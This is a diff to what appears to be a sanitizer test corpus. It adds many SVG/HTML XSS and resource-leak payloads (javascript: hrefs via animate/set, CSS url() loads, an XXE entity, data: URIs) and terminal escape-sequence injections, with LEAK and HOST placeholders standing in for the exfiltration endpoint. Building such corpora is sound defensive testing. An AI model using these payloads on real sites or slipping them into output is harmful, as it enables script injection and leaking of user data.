@@ -122,6 +122,89 @@ $<img src=x onerror=JS>$
 $\text{<img src=x onerror=JS>}$
 $\require{html}\href{javascript:JS}{x}$
 '''
+DRAWN = r"""
+<svg><image href=" LEAK "/></svg>
+<svg><IMAGE HREF="LEAK"/></svg>
+<svg><image/href="LEAK"/></svg>
+<svg><a href="LEAK"><animate attributeName=href values="javascript:JS"/><text y=9>click</text></a></svg>
+<svg><a><set attributeName=xlink:href to="javascript:JS"/><text y=9>click</text></a></svg>
+<svg><animate attributeName=href values="LEAK" begin=0s /><image/></svg>
+<svg><image><set attributeName=href to="LEAK"/></image></svg>
+<svg><use><animate attributeName=href to="LEAK#x" dur=1s fill=freeze /></use></svg>
+<svg><style>@import url(LEAK);</style></svg>
+<svg><style>rect{fill:url(LEAK#x)}</style><rect width=9 height=9 /></svg>
+<svg><style>text{font-family:x}@font-face{font-family:x;src:url(LEAK)}</style><text y=9>x</text></svg>
+<svg><rect fill="url(LEAK#x)" width=9 height=9 /></svg>
+<svg><rect filter="url(LEAK#x)" width=9 height=9 /></svg>
+<svg><rect mask="url(LEAK#x)" width=9 height=9 /></svg>
+<svg><rect clip-path="url(LEAK#x)" width=9 height=9 /></svg>
+<svg><path marker-start="url(LEAK#x)" d="M0 0L9 9"/></svg>
+<svg><text><textPath href="LEAK#x">x</textPath></text></svg>
+<svg><text><tref xlink:href="LEAK#x"/></text></svg>
+<svg><linearGradient href="LEAK#x" id=g /><rect fill="url(#g)" width=9 height=9 /></svg>
+<svg><pattern href="LEAK#x" id=p /><rect fill="url(#p)" width=9 height=9 /></svg>
+<svg><mpath href="LEAK#x"/><cursor href="LEAK"/></svg>
+<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">JS</handler></svg>
+<svg><foreignObject><iframe src="LEAK"></iframe></foreignObject></svg>
+<svg><foreignObject><p style="background:url(LEAK)">x</p></foreignObject></svg>
+<svg><video src="LEAK" autoplay/><audio src="LEAK" autoplay/></svg>
+<svg><script xlink:href="LEAK"></script></svg>
+<svg><discard onbegin=JS /><animateMotion onbegin=JS dur=1s /></svg>
+<svg><title><img src=x onerror=JS></title><desc><img src="LEAK"></desc></svg>
+<svg><metadata><link rel=stylesheet href="LEAK"/></metadata></svg>
+<svg xml:base="LEAK"><image href="x"/></svg>
+<svg style="background:url(LEAK);width:9px;height:9px"></svg>
+<?xml-stylesheet href="LEAK"?><svg><rect width=9 height=9 /></svg>
+<!DOCTYPE svg [<!ENTITY x SYSTEM "LEAK">]><svg><text y=9>&x;</text></svg>
+<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9SlM+PC9zdmc+">
+<img src="data:text/html,<script>JS</script>">
+<img src="\\HOST\leak">
+<img src="/\HOST/leak">
+<img src="ht&Tab;tp://HOST/leak">
+<img src=" LEAK">
+<img src="&#104;ttp://HOST/leak">
+<img src="HTTP://HOST/leak">
+<img src=x alt="" style="content:url(LEAK)">
+<img loading=eager fetchpriority=high decoding=sync crossorigin src="LEAK">
+<input type=image formaction="LEAK" src="LEAK">
+<link rel="stylesheet preload" as=style href="LEAK">
+<link rel=modulepreload href="LEAK">
+<link rel=dns-prefetch href="//HOST">
+<link rel=manifest href="LEAK">
+<script type=speculationrules>{"prefetch":[{"source":"list","urls":["LEAK"]}]}</script>
+<script type=importmap>{"imports":{"x":"LEAK"}}</script>
+<portal src="LEAK"></portal>
+<fencedframe src="LEAK"></fencedframe>
+<applet code="LEAK" archive="LEAK"></applet>
+<layer src="LEAK"></layer>
+<isindex type=image src="LEAK">
+<blockquote cite="LEAK">x</blockquote><del cite="LEAK">x</del><img longdesc="LEAK" usemap="LEAK" src=x>
+<html manifest="LEAK"><head profile="LEAK"></head></html>
+"""
+TERMINAL = (
+    "\x1b]8;;javascript:JS\x1b\\click\x1b]8;;\x1b\\",
+    "\x1b]8;id=1;LEAK\x07click\x1b]8;;\x07",
+    '\x1b]8;;LEAK" onmouseover="JS\x07click\x1b]8;;\x07',
+    "\x1b]8;;data:text/html,<script>JS</script>\x07click\x1b]8;;\x07",
+    "\x1b]1337;File=inline=1:PHNjcmlwdD4=\x07",
+    "\x1b]0;<img src=x onerror=JS>\x07",
+    "\x1b]52;c;SlM=\x07",
+    "\x1bP+q<img src=x onerror=JS>\x1b\\",
+    "\x1b_<script>JS</script>\x1b\\",
+    "\x1b^<script>JS</script>\x1b\\",
+    "\x1b[38;2;1;2;3;url(LEAK)mx\x1b[0m",
+    "\x1b[38;5;<img src=x onerror=JS>mx\x1b[0m",
+    "\x1b[1;31;48;5;9999999999m<b onclick=JS>x</b>",
+    "\x1b[2J\x1b[H<script>JS</script>",
+    "\x1b[<script>JS</script>m",
+    "\r<img src=x onerror=JS>\b\b\b\b",
+    "<i\bmg src=x onerror=JS>",
+    "<im\x1b[0mg src=x onerror=JS>",
+    "<img src=x on\x1b[1merror=JS>",
+    "\x9d8;;javascript:JS\x9cclick\x9d8;;\x9c",
+    "LEAK\x1b[0m' onmouseover='JS",
+    "www.HOST/leak javascript:JS mailto:x@HOST?body=<script>JS</script>",
+)  # fmt: skip
 LEAKING = r"""
 <img src="LEAK">
 <img src=//HOST/leak>
@@ -288,7 +371,14 @@ JSON_BUNDLES = (
 
 def payloads() -> list[str]:
     """All that is text, still with `JS`, `LEAK` and `HOST` in it."""
-    return [*_lines(RUNNING), *_lines(LEAKING), *MANY_LINES, *formulas()]
+    return [
+        *_lines(RUNNING),
+        *_lines(LEAKING),
+        *_lines(DRAWN),
+        *TERMINAL,
+        *MANY_LINES,
+        *formulas(),
+    ]
 
 
 def formulas() -> list[str]:
